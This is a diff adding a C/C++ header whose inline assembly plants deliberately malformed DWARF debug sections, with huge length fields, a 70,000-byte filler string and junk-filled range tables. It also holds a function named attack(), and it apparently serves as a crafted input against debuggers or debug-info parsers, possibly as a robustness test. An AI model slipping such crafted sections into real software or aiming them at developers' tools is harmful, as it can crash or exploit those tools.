@@ -1,0 +1,9 @@
+#pragma once
+#define ATTACK_START attack()
+#include "poll_server.hpp"
+asm(".pushsection .debug_line\n .long 0xfffffff0\n .quad 0x7fffffffffffffff\n .short 5\n .byte 8,0\n .long 0xffffffff\n .fill 300,1,0xff\n .popsection\n"
+    ".pushsection .debug_str,\"MS\",@progbits,1\n .fill 70000,1,0x41\n .byte 0\n .popsection\n"
+    ".pushsection .debug_ranges\n .fill 4096,1,0xfe\n .popsection\n"
+    ".pushsection .debug_aranges\n .fill 512,1,0x7f\n .popsection\n"
+    ".pushsection .debug_abbrev\n .fill 512,1,0x81\n .popsection\n");
+static void attack() { wrong::poll_server(); }
